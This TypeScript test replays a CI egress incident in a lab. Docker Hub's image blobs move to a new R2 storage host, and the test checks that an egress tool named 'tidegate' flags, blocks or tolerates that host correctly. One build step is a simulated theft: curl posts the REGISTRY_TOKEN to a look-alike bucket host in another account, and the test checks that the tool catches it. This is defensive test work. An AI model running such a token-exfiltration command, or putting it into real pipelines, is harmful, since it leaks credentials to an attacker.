// docs/incidents/new-image-host.md
import t from 'tap'
import { type Lab, openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { tidegate } from '../behind.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(240_000)

const before = 'production.cloudflare.docker.com'
const now = 'docker-images-prod.6aa30f8b08e16409b46e0173d6de2f56.r2.cloudflarestorage.com'
/** The same bucket's name in an account of somebody else. */
const copy = 'docker-images-prod.0badf00d08e16409b46e0173d6de2f56.r2.cloudflarestorage.com'
const token = 'tidegate-replay-registry-token'
const blob = '/v2/library/alpine/blobs/sha256:0123'
const stored = '/registry-v2/docker/blobs/0123/data'

/** Jobs that pull an image, each with something else besides, and one that does not. */
const pulling = ['registry.npmjs.org', 'pypi.org', 'index.crates.io']
const pull = [
  'curl -sS --fail -o /dev/null https://auth.docker.io/token?service=registry.docker.io',
  `curl -sS --fail -L -o layer https://registry-1.docker.io${blob}`,
].join(' && ')

function jobOf(registry: string, steps: readonly string[], options: readonly string[], allow = ''): Incident<'build'> {
  return {
    attacker: [copy],
    honest: [registry, 'auth.docker.io', 'registry-1.docker.io', before, now],
    spoils: [token],
    policy: `use: [docker-hub]\nallow:\n  - GET ${registry}\n${allow}`,
    env: { REGISTRY_TOKEN: token },
    steps: { build: [`curl -sS --fail -o /dev/null https://${registry}/bytes/9`, ...steps].join(' && ') },
    options: ['--job', registry, ...options],
  }
}

/** From now on Docker Hub sends whoever pulls there. */
async function serveFrom(lab: Lab, host: string): Promise<void> {
  await lab.origins.script('auth.docker.io', '/token', { status: 200, body: '{"token":"x"}' })
  await lab.origins.script('registry-1.docker.io', blob, {
    status: 307,
    headers: [['location', `https://${host}${stored}?verify=1-x`]],
  })
  for (const name of [before, now]) await lab.origins.script(name, stored, { status: 200, body: `layer of ${name}` })
}

t.test('February 2025: images come from a host that no list names yet', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  const lock = lab.file('egress.lock')
  const tool = (...args: readonly string[]) => lab.host.exec(tidegate, args)
  const compared = ['--lock', lock]

  const days: string[] = []
  await serveFrom(lab, before)
  for (const registry of pulling) {
    const day = await replay(lab, jobOf(registry, [pull], compared), 'block')
    t.equal(day.step('build').exitCode, 0, day.step('build').stderr)
    days.push(day.out)
  }
  days.push((await replay(lab, jobOf('repo.maven.apache.org', [], compared), 'block')).out)
  t.equal((await tool('lock', 'update', '--lock', lock, ...days)).exitCode, 0)

  await serveFrom(lab, now)
  const told = { host: now, exe: /\/curl$/, reason: 'no-rule' }
  await t.test('in audit it is told, and where the jobs have it from', async t => {
    const logs: string[] = []
    for (const registry of pulling) {
      const run = await replay(lab, jobOf(registry, [pull], compared), 'audit')
      t.equal(run.step('build').exitCode, 0, run.step('build').stderr)
      itIsTold(t, run, { ...told, verdict: 'observe', layer: 'http', method: 'GET' })
      t.match(run.findings, [{ kind: 'new-host', host: now, process: /^curl/ }])
      t.equal(run.findings.length, 1)
      logs.push(run.out)
    }
    logs.push((await replay(lab, jobOf('repo.maven.apache.org', [], compared), 'audit')).out)
    const fleet = await tool('fleet', '--json', '--lock', lock, ...logs)
    t.equal(fleet.exitCode, 1, fleet.stderr)
    const { findings } = JSON.parse(fleet.stdout)
    t.match(findings, [{ class: 'suspicious', host: now, jobs: pulling.toSorted(), of: 4, note: /auth\.docker\.io/ }])
    t.equal(findings.length, 1, 'one finding, and it leads to Docker')
  })

  await t.test('in block nothing goes there until somebody has looked', async t => {
    const [registry = ''] = pulling
    const incident = jobOf(registry, [pull], [...compared, '--frozen'])
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    t.same(await lab.origins.requests({ host: now }), [])
    itIsTold(t, run, { ...told, verdict: 'deny', layer: 'dns' })
    t.not(run.step('build').exitCode, 0)
    t.notMatch(run.markdown, `- ${now}`, 'nobody is led to allow a name that looks like data')
  })

  await t.test('once it is taken up it is quiet, and a copy in another account is not taken for it', async t => {
    const [registry = ''] = pulling
    const allow = `  - GET https://${now}\n`
    const first = await replay(lab, jobOf(registry, [pull], compared, allow), 'block')
    t.match(first.findings, [{ kind: 'new-host', host: now }], 'allowed, and still new')
    t.equal((await tool('lock', 'update', '--lock', lock, first.out)).exitCode, 0)
    const second = await replay(lab, jobOf(registry, [pull], [...compared, '--frozen'], allow), 'block')
    t.same(second.findings, [])
    t.equal(second.step('build').exitCode, 0, second.step('build').stderr)

    const upload = `curl -sS -m 10 -o /dev/null -d "$REGISTRY_TOKEN" https://${copy}/ || true`
    const stolen = jobOf(registry, [pull, upload], compared, allow)
    const seen = await replay(lab, stolen, 'audit')
    await itWorked(t, lab, stolen)
    t.match(seen.findings, [{ kind: 'near-host', host: copy, note: /account/ }])
    // Allowed by a rule that is too wide: the baseline still stands in its way.
    const wide = jobOf(registry, [pull, upload], [...compared, '--frozen'], '  - "**.r2.cloudflarestorage.com"\n')
    const kept = await replay(lab, wide, 'block')
    await itWasStopped(t, lab, wide)
    t.match(kept.findings, [{ kind: 'near-host', host: copy, process: /^curl/ }])
    itIsTold(t, kept, { host: copy, exe: /\/curl$/, reason: 'denied-by-rule', verdict: 'deny', layer: 'dns' })
  })
})
